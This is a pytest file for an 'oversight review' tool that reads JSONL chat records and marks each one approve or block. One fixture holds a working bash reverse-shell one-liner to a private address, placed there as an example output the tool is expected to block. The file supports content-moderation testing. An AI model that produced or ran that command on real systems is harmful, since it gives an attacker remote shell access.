"""`oversight review`: JSONL in, one decision per line out, in order; bad lines reported in place."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

GOOD = {"messages": [{"role": "user", "content": "Name my cat"}], "output": "How about Miso?"}
BLOCK = {
    "messages": [{"role": "user", "content": "reverse shell?"}],
    "output": "bash -i >& /dev/tcp/10.0.0.9/9001 0>&1",
    "domain": "cyber",
}


def run_cli(args: list[str], tmp_path: Path, stdin: bytes | None = None) -> subprocess.CompletedProcess[bytes]:
    env = {**os.environ, "OVERSIGHT_DATA_DIR": str(tmp_path / "data")}
    exe = Path(sys.executable).with_name("oversight")
    return subprocess.run([str(exe), *args], input=stdin, capture_output=True, env=env, timeout=120, check=False)


def test_malformed_line_in_the_middle(tmp_path: Path) -> None:
    lines = [json.dumps(GOOD), json.dumps(BLOCK), "{not json", json.dumps({"output": 7}), json.dumps(GOOD)]
    src = tmp_path / "requests.jsonl"
    src.write_text("\n".join(lines) + "\n")
    out = tmp_path / "decisions.jsonl"
    result = run_cli(["review", "--input", str(src), "--output", str(out)], tmp_path)
    assert result.returncode == 0, result.stderr.decode()
    records = [json.loads(x) for x in out.read_text().splitlines()]
    assert len(records) == 5
    assert records[0]["verdict"] == "approve" and records[1]["verdict"] == "block"
    assert records[2] == {"line": 3, "error": records[2]["error"]} and records[2]["error"]["code"] == "json_invalid"
    assert records[3]["line"] == 4 and records[3]["error"]["field"] == "output"
    assert records[4]["verdict"] == "approve"
    assert b"3 decided, 2 bad lines" in result.stderr


def test_stdin_to_stdout(tmp_path: Path) -> None:
    result = run_cli(["review"], tmp_path, stdin=(json.dumps(BLOCK) + "\n").encode())
    assert result.returncode == 0
    decision = json.loads(result.stdout.decode().strip())
    assert decision["verdict"] == "block" and decision["domain"] == "cyber"


def test_a_file_saved_with_a_byte_order_mark_is_read_and_decisions_carry_real_trace_ids(tmp_path: Path) -> None:
    src = tmp_path / "requests.jsonl"
    src.write_bytes(b"\xef\xbb\xbf" + (json.dumps(GOOD) + "\n" + json.dumps(BLOCK) + "\n").encode())
    out = tmp_path / "decisions.jsonl"
    result = run_cli(["review", "--input", str(src), "--output", str(out)], tmp_path)
    assert result.returncode == 0, result.stderr.decode()
    records = [json.loads(x) for x in out.read_text().splitlines()]
    assert [r.get("verdict") for r in records] == ["approve", "block"]
    ids = {r["trace_id"] for r in records}
    assert len(ids) == 2 and "0" * 32 not in ids  # one real W3C trace per review, as through the API
